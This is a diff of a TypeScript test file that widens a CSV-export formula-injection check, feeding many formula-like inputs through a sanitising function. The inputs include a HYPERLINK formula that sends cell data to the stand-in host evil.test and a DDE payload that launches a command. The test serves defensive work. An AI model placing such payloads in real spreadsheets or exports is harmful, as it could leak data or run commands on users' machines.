@@ -2,8 +2,8 @@ import { text } from 'node:stream/consumers';
 import { expect, test } from 'vitest';
 import { testApp } from '../../test/app.ts';
 import { asOwnerOfTests } from '../../test/from-address.ts';
-import { cellText } from './copy-out.ts';
 import { csvHead, csvLine } from './csv-line.ts';
+import { cellText } from './spreadsheet-cell.ts';
 import { type Sql, statement } from './sql.ts';
 
 const copy = async (query: Sql, head = '') => (await testApp()).ports.database.copyOut(100, query, head);
@@ -47,9 +47,34 @@ test('a list of texts cannot be copied by', async () => {
   await expect(copied(statement('select $1::text[]', [["a','b"]]))).rejects.toThrow('whole numbers');
 });
 
-const formulas = ['=1+1', '+1', '-1', '@a', '\ta', '\ra', '\na', '＝1', '＋1', '－1', '＠a'];
+const before = [
+  '',
+  ' ',
+  '  ',
+  '\u00a0',
+  '\u200b',
+  '\ufeff',
+  '\u2060',
+  '\u200e',
+  '\u202e',
+  '\u2066',
+  '\u00ad',
+  '\u3000',
+  '\u0001',
+  '\u0085',
+  '\ufeff \u200b\u00a0',
+  '\u{e0020}',
+];
+const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹢', '﹣', '﹦', '﹫'];
+const formulas = [
+  ...before.flatMap((start) => signs.map((sign) => `${start}${sign}1+1`)),
+  ...['\t', '\r', '\n', '\r\n'].map((start) => `${start}a`),
+  '=HYPERLINK("http://evil.test?a="&A1,"Ana")',
+  "=cmd|' /C calc'!A0",
+  '=1,2;"3"',
+];
 
-test.each([...formulas, "'=1", 'a=1', ' =1', '', 'Ana'])(
+test.each([...formulas, "'=1", 'a=1', '\u200ba', 'é-1', '1=1', '', 'Ana', 'شركة', '한국-1'])(
   'security 47: what a spreadsheet takes for a formula (%j) is text, from the database and from us alike',
   async (word) => {
     const query = statement(`select ${cellText('t')} from (select $1::text as t) w`, [
